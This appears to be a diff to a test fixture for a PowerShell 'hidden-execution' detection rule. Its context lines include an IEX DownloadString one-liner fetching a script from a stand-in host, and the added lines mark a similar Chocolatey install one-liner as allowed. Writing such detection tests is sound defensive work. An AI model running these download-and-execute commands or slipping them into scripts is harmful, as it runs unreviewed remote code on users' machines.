@@ -8,3 +8,5 @@ IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x.ps1')
 powershell -File .\build.ps1
 # ok: hidden-execution-powershell
 $bytes = [Convert]::FromBase64String($text)
+# ok: hidden-execution-powershell
+iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))
